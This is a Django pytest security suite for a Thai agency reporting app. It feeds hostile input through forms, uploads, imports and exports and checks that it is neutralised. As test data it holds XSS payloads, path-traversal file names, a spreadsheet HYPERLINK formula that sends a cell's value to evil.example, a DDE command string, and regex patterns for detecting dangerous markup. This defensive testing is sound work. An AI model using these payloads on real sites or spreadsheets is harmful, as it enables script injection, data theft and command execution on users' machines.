"""Hostile input, through the real forms, uploads and the import command.

Cell HTML (scripts, event handlers, javascript: links, iframes, style attributes) typed into
the staff forms or carried by an imported document never reaches a page or a PDF's HTML;
uploads are judged by their bytes (empty, too large, a PNG header in front of HTML, a path in
the name, a Thai name); unreadable documents are refused with one line and write nothing;
numbers that are not amounts or scores ("1e9", "NaN", "Infinity", a quadrillion in Thai
digits) come back as a Thai error with nothing saved; and every page carries the security
headers (CSP without inline scripts, X-Frame-Options, nosniff) and login needs a CSRF token.
"""

from __future__ import annotations

import os
import re
from pathlib import Path
from typing import cast

import pytest
from django.contrib.auth.models import AnonymousUser
from django.core.files.storage import FileSystemStorage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.template.loader import render_to_string
from django.test import Client
from django.urls import reverse

from agencies.models import Agency, SourceDocument
from conftest import publish_through_chain, seed_path
from measures.models import ITAResult, Measure, MeasureResult, MeasureSet, MeasureStep
from measures.tests.factories import set_with_measure
from measures.views import set_detail_context
from plans.models import Plan, PlanItem
from reports.choices import RoundKind
from reports.models import Evidence, ReportRow
from reports.services import report_row_update, round_open
from reports.tests.factories import plan_2566_2570
from reports.views import round_page_context

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n"

# Hostile fragments, each with a harmless Thai word so that something is left to show.
HOSTILE_TITLE = (
    '<script>alert("t")</script><img src=x onerror=alert(1)>'
    '<iframe src="https://evil.example/"></iframe>มาตรการเปิดเผยข้อมูล'
)
HOSTILE_STEP = (
    '<p style="color:red" onclick="steal()">ขั้นที่หนึ่ง</p>'
    '<a href="javascript:alert(2)">ลิงก์</a><svg onload=alert(3)></svg>'
)
HOSTILE_RESULT = (
    '<p onmouseover="alert(4)">ดำเนินการแล้ว</p><a href=" JaVaScRiPt:alert(5)">ดู</a>'
    '<object data="x.swf"></object><form action="https://evil.example/"><input name=p></form>'
    '<a href="https://www.example.go.th/">ประกาศ</a>'
)

# What must never appear as markup in a page.
DANGEROUS = [
    re.compile(r"<script(?![^>]*\bsrc=)", re.I),  # an inline script
    re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.I),  # an event handler attribute
    re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.I),
    re.compile(r"<(iframe|object|embed|svg|form action=\"https://evil)", re.I),
    re.compile(r"style=\"color:\s*red", re.I),
]


def dangerous(html: str) -> list[str]:
    return [rx.pattern for rx in DANGEROUS if rx.search(html)]


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- Cell HTML through the staff forms ------------------------------------------------------------


def test_it_keeps_hostile_html_typed_in_the_forms_off_every_page(client_for, alice, agency_a):
    measure_set, _first = set_with_measure(agency_a)
    client = client_for(alice)
    response = client.post(
        reverse("measures:measure_add", args=[measure_set.pk]),
        {"title": HOSTILE_TITLE, "steps": [HOSTILE_STEP, HOSTILE_RESULT], "issue": "ด้านข้อมูล"},
    )
    assert response.status_code == 302
    measure = Measure.objects.get(set=measure_set, title__contains="มาตรการเปิดเผยข้อมูล")
    response = client.post(
        reverse("measures:measure_results", args=[measure.pk]),
        {
            "period": "m6",
            "summary": HOSTILE_RESULT,
            "outcome": HOSTILE_STEP,
            "suggestions": HOSTILE_TITLE,
        },
    )
    assert response.status_code == 302

    stored = [measure.title_html]
    stored += list(MeasureStep.objects.filter(measure=measure).values_list("html", flat=True))
    for r in MeasureResult.objects.filter(measure=measure):
        stored += [r.summary, r.outcome, r.suggestions]
    for fragment in stored:
        assert not dangerous(fragment), fragment
    # The harmless parts survive: the words and the https link.
    assert "มาตรการเปิดเผยข้อมูล" in measure.title_html
    assert any('href="https://www.example.go.th/"' in f for f in stored)

    pages = [
        measure_set.get_absolute_url() + "?period=m6",
        reverse("measures:measure_edit", args=[measure.pk]),
        reverse("measures:measure_results", args=[measure.pk]) + "?period=m6",
    ]
    for url in pages:
        html = client.get(url).content.decode()
        assert "มาตรการเปิดเผยข้อมูล" in html, url
        assert not dangerous(html), (url, dangerous(html))
    context = set_detail_context(measure_set, alice, period="m6")
    pdf_html = render_to_string("measures/pdf/set.html", context)
    assert "มาตรการเปิดเผยข้อมูล" in pdf_html
    assert not dangerous(pdf_html), dangerous(pdf_html)


def test_it_shows_hostile_input_escaped_when_a_form_comes_back_with_an_error(
    client_for, alice, agency_a
):
    measure_set, _first = set_with_measure(agency_a)
    before = Measure.objects.count()
    response = client_for(alice).post(
        reverse("measures:measure_add", args=[measure_set.pk]),
        {"title": HOSTILE_TITLE, "steps": [HOSTILE_STEP], "period": "๓๑ ก.พ. ๖๗ - ๑ มี.ค. ๖๗"},
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert "&lt;script&gt;" in html  # what was typed is kept, as text
    assert not dangerous(html), dangerous(html)
    assert Measure.objects.count() == before


def test_it_escapes_hostile_text_in_report_rows(client_for, alice, agency_a):
    plan_2566_2570(agency_a)
    rnd = round_open(agency=agency_a, fiscal_year=2567, kind=RoundKind.Q1, user=alice)
    row = rnd.rows.order_by("order")[0]
    client = client_for(alice)
    response = client.post(
        reverse("reports:row_edit", args=[row.pk]),
        {
            "status": "in_progress",
            "version": row.version,
            "done_text": HOSTILE_TITLE,
            "outcome": HOSTILE_STEP,
            "problems": HOSTILE_RESULT,
            "suggestions": HOSTILE_RESULT,
        },
    )
    assert response.status_code == 302
    for url in (
        rnd.get_absolute_url(),
        reverse("reports:row_show", args=[row.pk]),
        reverse("reports:row_edit", args=[row.pk]),
    ):
        html = client.get(url).content.decode()
        assert not dangerous(html), (url, dangerous(html))
    pdf_html = render_to_string(
        "reports/pdf/round.html",
        {
            **round_page_context(rnd, alice),
            "title": "t",
        },
    )
    assert not dangerous(pdf_html), dangerous(pdf_html)


# --- Cell HTML through import_document -----------------------------------------------------------


def test_it_cleans_hostile_cells_of_an_imported_document(tmp_path, client):
    lines = seed_path("000").read_text(encoding="utf-8").split("\n")
    row = next(i for i, line in enumerate(lines) if line.startswith("<p>๒. ด้านคุณภาพ"))
    cells = lines[row].split("\t")
    cells[0] = HOSTILE_TITLE + cells[0]
    cells[1] = HOSTILE_STEP + cells[1]
    cells[4] = HOSTILE_RESULT + cells[4]
    lines[row] = "\t".join(cells)
    path = tmp_path / "measures.txt"
    path.write_text("\n".join(lines), encoding="utf-8")

    call_command("import_document", str(path), "--agency-code", "T-XSS")

    measure_set = publish_through_chain(MeasureSet.objects.get(agency__code="T-XSS"))
    stored = list(Measure.objects.values_list("title_html", flat=True))
    stored += list(MeasureStep.objects.values_list("html", flat=True))
    for r in MeasureResult.objects.all():
        stored += [r.summary, r.outcome, r.suggestions]
    for fragment in stored:
        assert not dangerous(fragment), fragment
    html = client.get(measure_set.get_stable_url(revision=True)).content.decode()
    assert "ด้านคุณภาพการดำเนินงาน" in html
    assert not dangerous(html), dangerous(html)
    pdf_html = render_to_string(
        "measures/pdf/set.html", set_detail_context(measure_set, AnonymousUser())
    )
    assert not dangerous(pdf_html), dangerous(pdf_html)


# --- Uploads -------------------------------------------------------------------------------------


@pytest.fixture
def open_row(agency_a, alice) -> ReportRow:
    plan_2566_2570(agency_a)
    rnd = round_open(agency=agency_a, fiscal_year=2567, kind=RoundKind.Q1, user=alice)
    return rnd.rows.order_by("order")[0]


def upload(client, row, name: str, data: bytes, content_type: str = "image/png"):
    return client.post(
        reverse("reports:row_evidence_add", args=[row.pk]),
        {"file": SimpleUploadedFile(name, data, content_type)},
        HTTP_HX_REQUEST="true",
    )


def test_it_refuses_an_empty_file(client_for, alice, open_row):
    response = upload(client_for(alice), open_row, "empty.png", b"")
    assert "ไฟล์ที่ส่งว่างเปล่า" in response.content.decode()
    assert not Evidence.objects.exists()


def test_it_refuses_a_file_over_the_limit(client_for, alice, open_row, settings):
    client = client_for(alice)
    big = b"%PDF-1.7\n" + b"0" * (10 * 1024 * 1024)
    response = upload(client, open_row, "big.pdf", big, "application/pdf")
    assert "ไฟล์ใหญ่เกินกำหนด (ไม่เกิน 10 MB)" in response.content.decode()
    settings.EVIDENCE_MAX_BYTES = 2048
    response = upload(client, open_row, "small.png", PNG + b"0" * 2041)
    assert "ไฟล์ใหญ่เกินกำหนด (ไม่เกิน 2 KB)" in response.content.decode()
    assert not Evidence.objects.exists()


def test_it_serves_html_behind_a_png_header_as_a_png_never_as_html(client_for, alice, open_row):
    client = client_for(alice)
    upload(
        client, open_row, "page.html", PNG + b"<html><script>alert(1)</script></html>", "text/html"
    )
    evidence = Evidence.objects.get()
    assert evidence.content_type == "image/png"
    assert (evidence.file.name or "").endswith(".png")
    response = client.get(reverse("reports:evidence_file", args=[evidence.pk]))
    assert response["Content-Type"] == "image/png"
    assert response["X-Content-Type-Options"] == "nosniff"
    # "Save as" keeps the type found in the content, never the .html the name claimed.
    assert 'filename="page.png"' in response["Content-Disposition"]
    assert "Content-Security-Policy" in response


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("../../../../etc/passwd.png", "passwd.png"),
        ("..\\..\\windows\\evil.png", "evil.png"),
        ("หลักฐาน การอบรม ๑.png", "หลักฐาน การอบรม ๑.png"),
    ],
)
def test_it_stores_uploads_under_their_hash_whatever_their_name(
    client_for, alice, open_row, name, shown
):
    client = client_for(alice)
    upload(client, open_row, name, PNG + name.encode())
    evidence = Evidence.objects.get()
    rnd = open_row.round
    assert re.fullmatch(
        rf"evidence/{rnd.agency.code}/{rnd.pk}/[0-9a-f]{{32}}\.png", evidence.file.name or ""
    )
    assert evidence.original_name == shown
    assert (
        Path(evidence.file.path)
        .resolve()
        .is_relative_to(Path(cast(FileSystemStorage, evidence.file.storage).location).resolve())
    )
    response = client.get(reverse("reports:evidence_file", args=[evidence.pk]))
    assert response.status_code == 200
    disposition = response["Content-Disposition"]
    assert ".." not in disposition and "/" not in disposition.split("filename", 1)[1]
    if not shown.isascii():
        assert "filename*=utf-8''" in disposition


def test_it_refuses_a_javascript_link_as_evidence(client_for, alice, open_row):
    client = client_for(alice)
    for url in ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "ftp://x"):
        client.post(
            reverse("reports:row_evidence_add", args=[open_row.pk]),
            {"url": url},
            HTTP_HX_REQUEST="true",
        )
    assert not Evidence.objects.exists()


# --- import_document: unreadable files -----------------------------------------------------------


def _nothing_written() -> bool:
    models = (Agency, Plan, PlanItem, SourceDocument, MeasureSet, Measure, ITAResult)
    return not any(m.objects.exists() for m in models)


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("random_10_mb", "binary file"),
        ("nul_at_start", "binary file"),
        ("nul_in_first_line", "binary file"),
        ("utf16_le", "binary file"),
        ("utf16_with_bom", "binary file"),
        ("nul_near_the_end", "binary file"),
        ("over_20_mb", "file too large"),
    ],
)
def test_it_refuses_unreadable_documents_in_one_line(tmp_path, case, reason):
    text = seed_path("002").read_text(encoding="utf-8")
    data = {
        "random_10_mb": lambda: os.urandom(10 * 1024 * 1024),
        "nul_at_start": lambda: b"\x00" + text.encode(),
        "nul_in_first_line": lambda: text.replace("\n", "\x00\n", 1).encode(),
        "utf16_le": lambda: text.encode("utf-16-le"),
        "utf16_with_bom": lambda: text.encode("utf-16"),
        # Past the first 64 KB: a check of the head alone once let this through to the DB.
        "nul_near_the_end": lambda: (
            seed_path("001").read_text(encoding="utf-8") + "\x00\nท้ายเอกสาร\n"
        ).encode(),
        "over_20_mb": lambda: (text * (21 * 1024 * 1024 // len(text.encode()) + 1)).encode(),
    }[case]()
    path = tmp_path / "document.txt"
    path.write_bytes(data)
    with pytest.raises(CommandError) as info:
        call_command("import_document", str(path), "--agency-code", "T-BAD")
    message = str(info.value)
    assert "\n" not in message
    assert reason in message
    assert message.startswith("document.txt: ")
    assert _nothing_written()


# --- Numbers -------------------------------------------------------------------------------------

NOT_NUMBERS = ["1e9", "NaN", "Infinity", "-Infinity", "0x10", "1_000", "๑e๙"]


@pytest.mark.parametrize("text", [*NOT_NUMBERS, "๑,๐๐๐,๐๐๐,๐๐๐,๐๐๐,๐๐๐", "-5", "-0"])
def test_it_refuses_a_budget_that_is_not_an_amount(client_for, alice, open_row, text):
    response = client_for(alice).post(
        reverse("reports:row_edit", args=[open_row.pk]),
        {"status": "in_progress", "version": open_row.version, "budget_used": text},
        HTTP_HX_REQUEST="true",
    )
    html = response.content.decode()
    assert any(
        m in html for m in ("กรุณากรอกจำนวนเงินเป็นตัวเลข", "จำนวนเงินมากเกินไป", "จำนวนเงินต้องไม่ติดลบ")
    )
    assert f'value="{text}"' in html  # what was typed stays in the field
    fresh = ReportRow.objects.get(pk=open_row.pk)
    assert fresh.version == open_row.version
    assert fresh.budget_used is None


@pytest.mark.parametrize("text", [*NOT_NUMBERS, "๑,๐๐๐,๐๐๐,๐๐๐,๐๐๐,๐๐๐", "100.01", "-1"])
def test_it_refuses_an_ita_score_that_is_not_a_score(client_for, alice, agency_a, text):
    response = client_for(alice).post(
        reverse("measures:ita_edit", args=[agency_a.code]),
        {"fiscal_year": "2567", "total": text, "iit": text},
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "กรุณาพิมพ์ตัวเลข" in html or "คะแนน" in html and "0" in html
    assert not ITAResult.objects.exists()


@pytest.mark.parametrize("text", [*NOT_NUMBERS, "๑,๐๐๐,๐๐๐,๐๐๐,๐๐๐,๐๐๐", "3000", "0", "-0"])
def test_it_refuses_a_fiscal_year_that_is_not_a_year(client_for, alice, agency_a, text):
    client = client_for(alice)
    response = client.post(
        reverse("measures:set_create", args=[agency_a.code]),
        {"fiscal_year": text, "kind": "measures"},
    )
    assert response.status_code == 200  # the form again, with the error
    assert "กรุณาพิมพ์ปี พ.ศ." in response.content.decode()
    response = client.post(
        reverse("measures:ita_edit", args=[agency_a.code]), {"fiscal_year": text, "total": "80"}
    )
    assert response.status_code == 400
    assert not MeasureSet.objects.exists()
    assert not ITAResult.objects.exists()


# --- Security headers and CSRF --------------------------------------------------------------------


def test_it_sends_the_security_headers_on_every_kind_of_page(client_for, alice, agency_a, open_row):
    measure_set, _m = set_with_measure(agency_a)
    client = client_for(alice)
    urls = [
        "/",
        reverse("login"),
        reverse("portal:dashboard"),
        reverse("portal:agency_detail", args=[agency_a.code]),
        measure_set.get_absolute_url(),
        reverse("measures:measure_add", args=[measure_set.pk]),
        open_row.round.get_absolute_url(),
        reverse("reports:row_edit", args=[open_row.pk]),
        "/plans/999999/",  # a 404
    ]
    for url in urls:
        response = client.get(url)
        csp = response.get("Content-Security-Policy", "")
        directives = dict(
            (part.strip().split(" ", 1) + [""])[:2] for part in csp.split(";") if part.strip()
        )
        assert "'self'" in directives.get("script-src", ""), url
        assert "unsafe-inline" not in directives["script-src"], url
        assert "unsafe-eval" not in directives["script-src"], url
        assert directives.get("object-src") == "'none'", url
        assert directives.get("frame-ancestors") == "'none'", url
        assert response["X-Frame-Options"] == "DENY", url
        assert response["X-Content-Type-Options"] == "nosniff", url
        html = response.content.decode()
        # Nothing the CSP would have to block: no inline scripts or handlers, no <style> blocks.
        assert not re.search(r"<script(?![^>]*\bsrc=)", html), url
        assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", html, re.I), url
        assert "<style" not in html, url


def test_it_needs_a_csrf_token_to_sign_in(alice):
    client = Client(enforce_csrf_checks=True)
    response = client.post(reverse("login"), {"username": "alice", "password": "pw-alice"})
    assert response.status_code == 403
    assert "_auth_user_id" not in client.session
    page = client.get(reverse("login"))
    csrf = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode())
    assert csrf is not None
    token = csrf.group(1)
    response = client.post(
        reverse("login"),
        {"username": "alice", "password": "pw-alice", "csrfmiddlewaretoken": token},
    )
    assert response.status_code == 302
    assert client.session["_auth_user_id"] == str(alice.pk)


def test_it_needs_a_csrf_token_for_a_staff_post(alice, agency_a):
    measure_set, _m = set_with_measure(agency_a)
    client = Client(enforce_csrf_checks=True)
    client.force_login(alice)
    response = client.post(reverse("agencies:submit", args=["measures", measure_set.pk]))
    assert response.status_code == 403
    measure_set.refresh_from_db()
    assert measure_set.status == "draft"


# --- Spreadsheet exports ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'


def test_it_never_exports_typed_text_as_a_spreadsheet_formula(client_for, alice, open_row):
    import io

    from openpyxl import load_workbook

    client = client_for(alice)
    report_row_update(
        row=open_row,
        data={"done_text": FORMULA + "\x0bบรรทัดใหม่"},
        version=open_row.version,
        user=alice,
    )
    rnd = open_row.round
    csv_text = body(
        client.get(reverse("reports:round_export", args=[rnd.pk, "rows", "csv"]))
    ).decode("utf-8-sig")
    assert "'" + FORMULA.replace('"', '""') in csv_text  # shown as text by spreadsheets
    assert "\x0b" not in csv_text
    response = client.get(reverse("reports:round_export", args=[rnd.pk, "rows", "xlsx"]))
    assert response.status_code == 200  # a control character once made this a 500
    sheet = load_workbook(io.BytesIO(body(response))).active
    cells = [
        c
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("=HYPERLINK") for c in cells)
    assert all("\x0b" not in c.value for c in cells)


def test_it_neutralises_formulas_in_the_open_data(client, agency_a):
    from plans.tests.factories import item_create, plan_create

    plan = plan_create(agency_a)
    item_create(plan, title="@SUM(1+1)*cmd|' /C calc'!A0")
    text = body(client.get(reverse("portal:open_data_plan_items_csv"))).decode("utf-8-sig")
    assert ",'@SUM(1+1)" in text
